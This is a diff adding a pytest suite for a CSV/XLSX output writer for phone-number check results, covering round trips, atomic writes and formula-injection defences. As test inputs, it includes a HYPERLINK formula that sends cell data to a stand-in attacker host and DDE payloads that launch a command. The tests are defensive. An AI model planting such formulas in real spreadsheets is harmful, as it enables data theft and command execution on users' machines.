@@ -1,0 +1,287 @@
+"""Tests for addin.engine.sinks: round trips, atomic replacement and formula injection."""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import datetime as dt
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import openpyxl
+import pytest
+import python_calamine
+
+from addin.engine.sinks import OUTPUT_COLUMNS, XLSX_MAX_CELL, cell_text, write_output
+
+CHECKED = dt.datetime(2024, 10, 19, 18, 24, 56, 450567, tzinfo=dt.UTC)
+ROWS: list[list[object]] = [
+    ["+41 79 828 46 51", "+41798284651", "yes", None, "upstream", CHECKED],
+    [41798284652.0, "+41798284652", "no", "", "cache", "2024-10-19T18:24:56Z"],
+    ["0798284653", None, "invalid", "national number needs a region", None, None],
+    [None, None, "invalid", "empty cell", None, None],
+    ["+41798284654", "+41798284654", "error", "no answer was recorded", "demo", None],
+]
+EXPECTED = [
+    list(OUTPUT_COLUMNS),
+    ["+41 79 828 46 51", "+41798284651", "yes", "", "upstream", "2024-10-19T18:24:56Z"],
+    ["41798284652", "+41798284652", "no", "", "cache", "2024-10-19T18:24:56Z"],
+    ["0798284653", "", "invalid", "national number needs a region", "", ""],
+    ["", "", "invalid", "empty cell", "", ""],
+    ["+41798284654", "+41798284654", "error", "no answer was recorded", "demo", ""],
+]
+
+
+def read_csv(path: Path) -> list[list[str]]:
+    """Read a CSV written by write_output back as rows of text."""
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def read_xlsx(path: Path) -> list[list[object]]:
+    """Read the first sheet of a workbook back with calamine."""
+    sheet = python_calamine.CalamineWorkbook.from_path(path).get_sheet_by_index(0)
+    return [list(row) for row in sheet.iter_rows()]
+
+
+def one_row(value: object) -> list[list[object]]:
+    """Return a single output row whose input is ``value``."""
+    return [[value, None, "invalid", "x", None, None]]
+
+
+def failing_rows(after: int) -> Iterator[list[object]]:
+    """Yield good rows, then fail the way a crashed producer would."""
+    yield from ROWS[:after]
+    raise RuntimeError("producer died")
+
+
+def leftovers(folder: Path, keep: set[str]) -> list[str]:
+    """Return the names in ``folder`` other than ``keep`` (temporary files left behind)."""
+    return sorted(path.name for path in folder.iterdir() if path.name not in keep)
+
+
+# --- round trips ---------------------------------------------------------------------
+
+
+def test_csv_round_trip(tmp_path: Path) -> None:
+    """Every column comes back as text; the file starts with a UTF-8 byte-order mark."""
+    path = tmp_path / "out.csv"
+    assert write_output(path, ROWS) == len(ROWS)
+    assert path.read_bytes().startswith(codecs.BOM_UTF8 + b"input,e164,")
+    assert b"\r\n" in path.read_bytes()
+    assert read_csv(path) == EXPECTED
+
+
+def test_xlsx_round_trip_with_calamine(tmp_path: Path) -> None:
+    """All cells are text, so leading zeros and '+' survive and numbers stay digits."""
+    path = tmp_path / "out.xlsx"
+    assert write_output(path, ROWS) == len(ROWS)
+    assert read_xlsx(path) == EXPECTED
+
+
+def test_xlsx_round_trip_with_openpyxl(tmp_path: Path) -> None:
+    """openpyxl sees string cells, a bold header, a frozen first row and a filter."""
+    path = tmp_path / "out.xlsx"
+    write_output(path, ROWS)
+    sheet = openpyxl.load_workbook(path).active
+    assert sheet.title == "Results"
+    expected = ["0798284653", None, "invalid", "national number needs a region", None, None]
+    assert [cell.value for cell in sheet[4]] == expected
+    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value} == {
+        "s"
+    }
+    assert all(cell.font.bold for cell in sheet[1])
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == "A1:F6"
+
+
+@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
+def test_no_rows_gives_a_header_only(tmp_path: Path, name: str) -> None:
+    """An empty job still writes a valid file with its header."""
+    path = tmp_path / name
+    assert write_output(path, iter(())) == 0
+    rows = read_csv(path) if name.endswith(".csv") else read_xlsx(path)
+    assert rows == [list(OUTPUT_COLUMNS)]
+
+
+def test_upper_case_extension(tmp_path: Path) -> None:
+    """OUT.XLSX is an .xlsx."""
+    path = tmp_path / "OUT.XLSX"
+    write_output(path, ROWS)
+    assert read_xlsx(path) == EXPECTED
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (None, ""),
+        ("0798284651", "0798284651"),
+        (41798284651.0, "41798284651"),
+        (41798284651, "41798284651"),
+        (1.5, "1.5"),
+        (1e20, "1e+20"),
+        (float("nan"), "nan"),
+        (True, "TRUE"),
+        (False, "FALSE"),
+        (dt.datetime(2024, 1, 2, 3, 4, 5), "2024-01-02T03:04:05"),
+        (
+            dt.datetime(2024, 1, 2, 4, 4, 5, tzinfo=dt.timezone(dt.timedelta(hours=1))),
+            "2024-01-02T03:04:05Z",
+        ),
+        (dt.date(2024, 1, 2), "2024-01-02"),
+        (dt.time(3, 4), "03:04:00"),
+        (dt.timedelta(hours=1), "1:00:00"),
+    ],
+)
+def test_cell_text(value: object, text: str) -> None:
+    """Cell values become the text a user expects to see."""
+    assert cell_text(value) == text
+
+
+def test_naive_check_time_is_taken_as_utc(tmp_path: Path) -> None:
+    """checked_at without a time zone is written as UTC."""
+    path = tmp_path / "out.csv"
+    write_output(path, [["x", None, "invalid", "x", None, dt.datetime(2024, 1, 2, 3, 4, 5)]])
+    assert read_csv(path)[1][5] == "2024-01-02T03:04:05Z"
+
+
+def test_output_replaces_an_existing_file(tmp_path: Path) -> None:
+    """A second run overwrites the previous result completely."""
+    path = tmp_path / "out.csv"
+    write_output(path, ROWS)
+    write_output(path, ROWS[:1])
+    assert read_csv(path) == EXPECTED[:2]
+
+
+def test_output_file_gets_ordinary_permissions(tmp_path: Path) -> None:
+    """The result is as readable as any file the user creates (the umask decides)."""
+    path = tmp_path / "out.csv"
+    write_output(path, ROWS)
+    ordinary = tmp_path / "ordinary"
+    ordinary.write_text("x")
+    assert path.stat().st_mode == ordinary.stat().st_mode
+
+
+# --- atomicity and errors ------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
+def test_failure_midway_leaves_no_file(tmp_path: Path, name: str) -> None:
+    """When the rows run out with an error, there is no output and no temporary file."""
+    with pytest.raises(RuntimeError, match="producer died"):
+        write_output(tmp_path / name, failing_rows(after=3))
+    assert leftovers(tmp_path, keep=set()) == []
+
+
+@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
+def test_failure_midway_keeps_the_previous_file(tmp_path: Path, name: str) -> None:
+    """A failed run leaves the previous result byte for byte."""
+    path = tmp_path / name
+    write_output(path, ROWS)
+    before = path.read_bytes()
+    with pytest.raises(RuntimeError, match="producer died"):
+        write_output(path, failing_rows(after=2))
+    assert path.read_bytes() == before
+    assert leftovers(tmp_path, keep={name}) == []
+
+
+@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
+def test_row_of_the_wrong_width(tmp_path: Path, name: str) -> None:
+    """A row without six values is a programming error named with its row number."""
+    rows: list[list[object]] = [ROWS[0], ["too", "short"]]
+    with pytest.raises(ValueError, match="output row 2 has 2 values; expected 6"):
+        write_output(tmp_path / name, rows)
+    assert leftovers(tmp_path, keep=set()) == []
+
+
+@pytest.mark.parametrize(("name", "shown"), [("out.txt", "'.txt'"), ("out", "no extension")])
+def test_unknown_extension(tmp_path: Path, name: str, shown: str) -> None:
+    """Only .csv and .xlsx are written."""
+    with pytest.raises(ValueError, match=f"cannot write {shown}; the output must be .csv or .xlsx"):
+        write_output(tmp_path / name, ROWS)
+    assert leftovers(tmp_path, keep=set()) == []
+
+
+def test_missing_folder(tmp_path: Path) -> None:
+    """A destination folder that does not exist is an OSError, with nothing created."""
+    with pytest.raises(FileNotFoundError):
+        write_output(tmp_path / "missing" / "out.csv", ROWS)
+    assert leftovers(tmp_path, keep=set()) == []
+
+
+def test_xlsx_row_limit(tmp_path: Path) -> None:
+    """More rows than a sheet holds fails cleanly and suggests CSV."""
+    with pytest.raises(ValueError, match=r"holds at most 3 rows below its header; write a \.csv"):
+        write_output(tmp_path / "out.xlsx", ROWS, xlsx_max_rows=3)
+    assert leftovers(tmp_path, keep=set()) == []
+
+
+# --- formula injection ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "-",
+    ],
+)
+def test_csv_neutralises_formulas(tmp_path: Path, attack: str) -> None:
+    """Text Excel would run as a formula gets a leading apostrophe in CSV."""
+    path = tmp_path / "out.csv"
+    write_output(path, one_row(attack))
+    assert read_csv(path)[1][0] == "'" + attack
+
+
+@pytest.mark.parametrize(
+    "phone", ["+41798284651", "+41 (0)79 828-46.51", "-41798284651", "+1 201/555 0123"]
+)
+def test_csv_leaves_phone_numbers_alone(tmp_path: Path, phone: str) -> None:
+    """Digits with phone punctuation cannot call anything, so E.164 stays '+41...'."""
+    path = tmp_path / "out.csv"
+    write_output(path, [[phone, "+41798284651", "yes", None, "demo", None]])
+    assert read_csv(path)[1][:2] == [phone, "+41798284651"]
+
+
+def test_csv_other_columns_are_guarded_too(tmp_path: Path) -> None:
+    """The guard applies to every column, not only the input."""
+    path = tmp_path / "out.csv"
+    write_output(path, [["x", None, "invalid", "=1+1", "@x", None]])
+    assert read_csv(path)[1] == ["x", "", "invalid", "'=1+1", "'@x", ""]
+
+
+def test_xlsx_stores_formulas_as_plain_text(tmp_path: Path) -> None:
+    """In .xlsx a would-be formula is a text cell: no <f> element, no apostrophe."""
+    path = tmp_path / "out.xlsx"
+    attack = '=HYPERLINK("http://evil.example","x")'
+    write_output(path, one_row(attack) + one_row("+cmd|' /C calc'!A0"))
+    with zipfile.ZipFile(path) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    assert [row[0] for row in read_xlsx(path)[1:]] == [attack, "+cmd|' /C calc'!A0"]
+    cell = openpyxl.load_workbook(path).active["A2"]
+    assert (cell.value, cell.data_type) == (attack, "s")
+
+
+def test_xlsx_replaces_characters_excel_forbids(tmp_path: Path) -> None:
+    """Control characters that XML cannot hold become U+FFFD instead of failing."""
+    path = tmp_path / "out.xlsx"
+    write_output(path, one_row("+41\x0179\x1b828"))
+    assert read_xlsx(path)[1][0] == "+41\ufffd79\ufffd828"
+
+
+def test_xlsx_truncates_cells_over_excels_limit(tmp_path: Path) -> None:
+    """Excel refuses cells over 32,767 characters, so longer input is cut with an ellipsis."""
+    path = tmp_path / "out.xlsx"
+    write_output(path, one_row("9" * 40_000))
+    value = read_xlsx(path)[1][0]
+    assert isinstance(value, str)
+    assert len(value) == XLSX_MAX_CELL
+    assert value.endswith("…")
